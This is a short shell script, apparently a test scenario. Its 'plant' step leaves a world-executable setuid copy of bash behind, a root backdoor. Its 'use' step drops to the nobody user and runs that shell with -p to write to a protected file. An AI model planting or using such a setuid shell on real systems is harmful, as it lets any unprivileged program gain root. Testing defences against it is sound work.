# A shell of root's for everybody, left behind for a program without rights.
attack='echo hurt >> "$PROTECTED"'
as="setpriv --reuid 65534 --regid 65534 --clear-groups --inh-caps=-all"
case $1 in
plant) cp /bin/bash shell && chmod 4755 shell && chmod a+x . ;;
use) if $as true; then $as ./shell -p -c "$attack"; else ./shell -p -c "$attack"; fi ;;
esac
